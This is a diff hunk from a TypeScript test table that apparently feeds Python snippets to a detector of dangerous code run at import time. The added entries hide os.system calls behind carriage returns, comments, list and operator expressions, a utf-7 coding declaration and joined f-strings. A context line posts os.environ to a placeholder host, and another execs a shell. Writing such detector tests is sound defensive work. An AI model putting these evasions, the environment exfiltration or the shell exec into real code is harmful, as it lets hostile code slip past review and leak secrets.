@@ -52,6 +52,12 @@ const AT_IMPORT: Readonly<Record<string, string>> = {
   'tabs for indentation': "import os\nif 1:\n\tos.system('x')\n",
   'environment sent': "import os, requests\nrequests.post('http://x.invalid', json=dict(os.environ))\n",
   exec_family: "import os\nos.execvp('sh', ['sh'])\n",
+  'carriage returns for lines': "import os\ros.system('x')\r",
+  'behind a comment and a carriage return': "import os\n# note\ros.system('x')\n",
+  'in a list only': "[__import__('os').system('x')]\n",
+  'in an operator only': "1 + __import__('os').system('x')\n",
+  'declared encoding': '# -*- coding: utf-7 -*-\nimport os\n',
+  'strings side by side': 'import os\nx = f"{1}" "abc" \\\n  f"{os.system(1)}"\n',
   'python 2': "import os\nprint 'hello'\nos.system('x')\n",
 };
 
